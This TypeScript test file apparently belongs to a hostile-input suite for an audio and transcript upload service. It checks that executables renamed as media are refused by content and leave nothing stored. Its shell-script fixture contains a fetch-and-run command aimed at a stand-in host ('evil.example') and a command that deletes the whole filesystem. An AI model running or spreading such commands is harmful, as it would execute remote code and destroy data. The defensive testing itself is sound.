import { afterAll, describe, expect, it } from "vitest";
import { appWithUsers, assignOverRest, failed, fixture, listFiles, uploadAudio } from "../fixtures/app-harness";
import { dbState } from "../fixtures/hostile-world";

/**
 * Hostile suite, attack: executables renamed as media. A Linux ELF binary, a Windows PE
 * (.exe), a macOS Mach-O binary and a shell script are uploaded as audio (.wav, .mp3, .ogg,
 * .flac), as a translated recording, and as transcripts (.docx, .doc, .pdf, .txt, .cha), with
 * the part's Content-Type claiming audio. Files are typed by their content, so each is refused
 * with the spec's message and nothing is stored: no row, no file, no temp file.
 */

const { h, staffA: staff, adminToken, tokenA: staffToken } = await appWithUsers();
afterAll(() => h.close());

const wav = await fixture("hello.wav");
const forAttachments = (await uploadAudio(h, adminToken, { name: "target.wav", content: wav }))._id;
await assignOverRest(h, adminToken, forAttachments, staff);

const EXECUTABLES = {
  "an ELF binary": Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(248, 0x90)]),
  "a PE (.exe)": Buffer.concat([
    Buffer.from("MZ"),
    Buffer.alloc(58),
    Buffer.from([0x80, 0, 0, 0]),
    Buffer.alloc(64),
    Buffer.from("PE\0\0"),
    Buffer.alloc(200, 0xcc),
  ]),
  "a Mach-O binary": Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(248)]),
  "a shell script": Buffer.from("#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf / --no-preserve-root\n"),
};
type Executable = keyof typeof EXECUTABLES;
const BINARIES: Executable[] = ["an ELF binary", "a PE (.exe)", "a Mach-O binary"];

const NOT_AUDIO = "The selected file is not a valid audio file.";
const NOT_RECORDING = "Invalid file type. Please select a valid audio file.";
const NOT_PLAIN_TEXT = "The selected file is not a plain text file.";
const notValid = (ext: string) => `The selected file is not a valid ${ext} file.`;

interface Case {
  what: Executable;
  kind: "AUDIO" | "AUDIOTRANSLATION" | "INITIAL_TRANSCRIPT" | "TRANSLATED_TRANSCRIPT";
  name: string;
  status: number;
  message: string;
}

const ALL = Object.keys(EXECUTABLES) as Executable[];
const CASES: Case[] = [
  ...ALL.flatMap((what) =>
    ["payload.wav", "payload.mp3", "payload.ogg", "payload.flac", "payload.exe"].map((name): Case => ({
      what,
      kind: "AUDIO",
      name,
      status: 400,
      message: NOT_AUDIO,
    })),
  ),
  ...ALL.flatMap((what) =>
    ["take.wav", "take.mp3"].map((name): Case => ({
      what,
      kind: "AUDIOTRANSLATION",
      name,
      status: 400,
      message: NOT_RECORDING,
    })),
  ),
  ...ALL.flatMap((what) =>
    [".docx", ".doc", ".pdf"].map((ext): Case => ({
      what,
      kind: "INITIAL_TRANSCRIPT",
      name: `notes${ext}`,
      status: 415,
      message: notValid(ext),
    })),
  ),
  ...BINARIES.map((what): Case => ({
    what,
    kind: "INITIAL_TRANSCRIPT",
    name: "notes.txt",
    status: 415,
    message: notValid(".txt"),
  })),
  ...BINARIES.flatMap((what) =>
    ["t.cha", "t.txt"].map((name): Case => ({
      what,
      kind: "TRANSLATED_TRANSCRIPT",
      name,
      status: 415,
      message: NOT_PLAIN_TEXT,
    })),
  ),
  ...ALL.flatMap((what) => [
    {
      what,
      kind: "INITIAL_TRANSCRIPT" as const,
      name: "run.exe",
      status: 415,
      message: "Please select a .cha, .doc, .docx, .pdf or .txt file.",
    },
    {
      what,
      kind: "TRANSLATED_TRANSCRIPT" as const,
      name: "run.sh",
      status: 415,
      message: "Please select a .cha or .txt file.",
    },
  ]),
];

/** The form of `kind` carrying `file` (with an audio Content-Type claimed for it). */
function send(c: Case) {
  const file = { name: c.name, content: EXECUTABLES[c.what], type: "audio/wav" };
  switch (c.kind) {
    case "AUDIO":
      return h.upload("AUDIO", adminToken, [
        ["category", "Control"],
        ["file", file],
      ]);
    case "AUDIOTRANSLATION":
      return h.upload("AUDIOTRANSLATION", staffToken, [
        ["audioId", forAttachments],
        ["recordedBy", staff.id],
        ["file", file],
      ]);
    case "INITIAL_TRANSCRIPT":
      return h.upload("INITIAL_TRANSCRIPT", adminToken, [
        ["audioId", forAttachments],
        ["file", file],
      ]);
    case "TRANSLATED_TRANSCRIPT":
      return h.upload("TRANSLATED_TRANSCRIPT", staffToken, [
        ["audioId", forAttachments],
        ["file", file],
      ]);
  }
}

describe("executables renamed as audio or transcripts are refused and nothing is stored", () => {
  it.each(CASES.map((c) => [c.what, c.name, c.kind, c] as const))(
    "%s named %s as %s",
    async (_what, _name, _kind, c) => {
      const before = await dbState(h);
      const res = await send(c);
      expect(res.statusCode, res.body).toBe(c.status);
      expect(res.json()).toEqual(failed(c.message));
      expect(await dbState(h)).toEqual(before);
      expect(await listFiles(`${h.filesDir}/.tmp`)).toEqual([]);
    },
  );
});

describe("a name is never what makes a file executable", () => {
  it("a real WAV named payload.exe is stored as audio/wav under a key of the server's", async () => {
    const { _id, filename } = await uploadAudio(h, adminToken, { name: "payload.exe", content: wav });
    expect(filename).toBe("payload");
    const row = await h.deps.db
      .selectFrom("audios")
      .select(["fileKey", "mimeType"])
      .where("id", "=", _id)
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ fileKey: expect.stringMatching(/^audios\/[0-9a-f-]{36}\.wav$/), mimeType: "audio/wav" });
    expect(await listFiles(h.filesDir)).not.toContainEqual(expect.stringMatching(/\.exe$/));
  });
});
